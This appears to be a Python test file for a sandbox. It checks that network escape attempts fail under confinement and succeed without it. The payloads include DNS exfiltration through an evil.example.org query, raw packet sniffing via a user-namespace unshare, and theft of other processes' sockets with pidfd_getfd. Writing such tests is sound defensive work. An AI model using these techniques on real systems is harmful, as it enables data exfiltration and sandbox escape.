"""Network: ways out that are no exit."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import stages
from attack import Attack, Scene
from test_escape_kernel import NEWUSER, UNSHARE
from trial import fails, succeeds

OFF = ("network",)

SEND = """
words = F["words"].encode()
"""


@asynccontextmanager
async def names(scene: Scene) -> AsyncIterator[None]:
    """A listener of the host's whose very name is a secret."""
    import socket

    with socket.socket(socket.AF_UNIX) as held:
        held.bind("\0" + scene.canary)
        held.listen()
        yield


@asynccontextmanager
async def resolver(scene: Scene) -> AsyncIterator[None]:
    """Where the host asks for names (in a network of the test's own)."""
    async with stages.udp("127.0.0.53")(scene):
        yield


def untold(scene: Scene) -> bool:
    """More came to an exit's socket than the sandbox's account says."""
    assert scene.ended is not None
    return scene.found.get("all", 0) > sum(scene.ended.connections.values())


NETWORK = [
    Attack("a server on the host's loopback", OFF, SEND + """
for host in (F["tcp"][0], "localhost", "0.0.0.0", "::ffff:127.0.0.1", "10.0.2.2", "10.0.2.15"):
    with tried(): socket.create_connection((host, F["tcp"][1]), timeout=1).sendall(words)
""", Scene.got, stage=stages.tcp()),
    Attack("a server on the host's loopback, by IPv6", OFF, SEND + """
with tried(): socket.create_connection(("::1", F["tcp"][1]), timeout=1).sendall(words)
""", Scene.got, stage=stages.tcp("::1")),
    Attack("a server on an address of the host's own", OFF, SEND + """
with tried(): socket.create_connection(tuple(F["tcp"]), timeout=1).sendall(words)
""", Scene.got, stage=lambda scene: stages.tcp(stages.own_address())(scene)),
    Attack("a datagram to the host", OFF, SEND + """
for host in (F["udp"][0], "10.0.2.2"):
    with tried(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(words, (host, F["udp"][1]))
""", Scene.got, stage=stages.udp()),
    Attack("a datagram to the host, by IPv6", OFF, SEND + """
for _ in range(3):
    with tried(): socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(words, tuple(F["udp"]))
""", Scene.got, stage=stages.udp("::1")),
    Attack("words in the names that are asked for", OFF, SEND + """
query = bytes.fromhex("1234 0100 0001 0000 0000 0000") + bytes([len(words)]) + words
query += b"\\x04evil\\x07example\\x03org\\0\\0\\1\\0\\1"
for _ in range(3):
    with tried(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, tuple(F["udp"]))
""", Scene.got, stage=resolver),
    Attack("with the first packet, without connecting", OFF, SEND + """
with tried(): socket.socket().sendto(words, 0x20000000, tuple(F["tcp"]))
with tried():
    multi = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    multi.settimeout(1); multi.connect(tuple(F["tcp"])); multi.sendall(words)
""", Scene.got, stage=stages.tcp()),
    Attack("a socket of the host's that is no file", OFF, SEND + """
with tried():
    there = socket.socket(socket.AF_UNIX); there.connect("\\0" + F["abstract"]); there.sendall(words)
""", Scene.got, stage=stages.abstract),
    Attack("the names of the host's sockets", OFF, """
with tried(): say(read("/proc/net/unix"))
with tried():
    asked = socket.socket(16, socket.SOCK_RAW, 4)
    asked.settimeout(1)
    asked.send(struct.pack("=IHHII", 40, 20, 0x301, 1, 0) + struct.pack("=BBHIIIII", 1, 0, 0, 0xffffffff, 0, 1, 0, 0))
    for _ in range(50): say(asked.recv(1 << 20))
""", Scene.told, stage=names),
    Attack("sockets that are files of the host's", ("root",), SEND + """
for one in F["unix"]:
    with tried():
        there = socket.socket(socket.AF_UNIX); there.connect(one); there.sendall(words)
""", Scene.got, stage=stages.unix),
    Attack("what passes on the host's loopback", (), f"""
def listen(): return socket.socket(17, socket.SOCK_RAW, socket.htons(3))
with tried():
    try: ear = listen()
    except OSError: syscall({UNSHARE}, {NEWUSER}); ear = listen()
    ear.settimeout(3)
    ready()
    for _ in range(200): say(ear.recv(65536))
""", Scene.told, stage=lambda scene: stages.udp()(scene), meanwhile=lambda s, b: _chatter(s)),
    Attack("an exit by its own socket, past the count", ("channel",), SEND + """
import glob, threading
paths = set(glob.glob("/run/**", recursive=True) + glob.glob("/tmp/**", recursive=True))
for line in read("/proc/net/unix").decode().splitlines()[1:]:
    if len(line.split()) > 7: paths.add(line.split()[7])
for folder, _, files in os.walk("/dev"): paths.update(folder + "/" + it for it in files)
for path in paths:
    with contextlib.suppress(OSError):
        there = socket.socket(socket.AF_UNIX); there.settimeout(1)
        there.connect(path.replace("@", "\\0")); there.sendall(words)
for process in range(1, 100):
    for one in range(3, 64):
        with contextlib.suppress(OSError):
            got = socket.socket(fileno=syscall(438, syscall(434, process, 0), one, 0))
            got.setblocking(False); got.send(words)
""", untold, stage=stages.exit_to(3128), no_control="no switch lays a socket bare"),
]  # fmt: skip


async def _chatter(scene: Scene) -> None:
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mouth:
        mouth.sendto(scene.canary.encode(), tuple(scene.facts["udp"]))


test_attack_fails = fails(NETWORK)
test_attack_succeeds_without_its_defence = succeeds(NETWORK)
